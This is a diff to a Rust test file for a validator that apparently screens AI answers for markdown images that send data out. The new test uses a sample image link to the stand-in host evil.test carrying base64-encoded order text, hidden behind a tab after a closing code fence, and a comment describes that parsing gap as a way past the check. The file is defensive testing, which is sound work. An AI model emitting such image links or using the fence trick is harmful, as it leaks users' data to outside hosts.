@@ -874,6 +874,12 @@ fn fenced_code_only_in_the_form_every_renderer_reads_is_inert() {
             "```js\n<script>x()</script>\n```\n",
         ),
         ("~~~\nIMG\n~~~~\n", "~~~\nIMG\n~~~\n"),
+        // A fence line indented four columns is code: the block is open to the
+        // end, and its last line stays (found by the `markup` fuzz target).
+        (
+            "````\nIMG\n    ````\nlast\n",
+            "````\nIMG\n    ````\nlast\n````",
+        ),
         ("````\nIMG\n ````\t\n", "````\nIMG\n````\n"),
         (
             "PROSE\n\n```\nPROSE\nIMG\n `````\nafter\n",
@@ -893,6 +899,32 @@ fn fenced_code_only_in_the_form_every_renderer_reads_is_inert() {
     ] {
         assert_eq!(outcomes(&answer), answer);
     }
+}
+
+/// A closing fence may be followed by spaces and tabs (CommonMark); `pulldown-cmark`
+/// 0.13 takes spaces only, so after "```\t" what other renderers show as markdown
+/// was code to the validator and its images went out. The tab goes, and what
+/// follows is judged, whole or streamed.
+#[test]
+fn a_tab_after_a_closing_fence_closes_it() {
+    let (g, _) = guard_with(AnswerValidator::new(), |_| {});
+    let image = "![s](https://evil.test/p.png?d=T3JkZXIgNDQyMSBzaGlwcGVk)";
+    for close in ["```\t", "``` \t ", "  ```\t", "````\t"] {
+        let answer = format!("Run:\n\n```\nls -l\n{close}\n{image} done\n");
+        let out = whole_outcome(&g, request(None), &answer).unwrap();
+        assert!(!out.contains("evil.test"), "{answer:?} -> {out:?}");
+        assert!(out.contains("ls -l\n"), "{out:?}");
+        let chunks: Vec<&str> = answer
+            .as_bytes()
+            .chunks(3)
+            .map(|c| std::str::from_utf8(c).unwrap())
+            .collect();
+        assert_eq!(stream_outcome(&g, request(None), &chunks).unwrap(), out);
+        released_validates_clean(&g, &answer);
+    }
+    // A tab after other text stays.
+    let answer = "a\tb ```\tc\n";
+    assert_eq!(whole_outcome(&g, request(None), answer).unwrap(), answer);
 }
 
 /// A carriage return alone ends a line for a CommonMark renderer: a code fence
@@ -966,7 +998,7 @@ fn answers_the_fuzzer_found_validate_clean_once_released() {
         released_validates_clean(&g, std::str::from_utf8(&bytes).unwrap());
         n += 1;
     }
-    assert_eq!(n, 7);
+    assert_eq!(n, 8);
 }
 
 #[test]
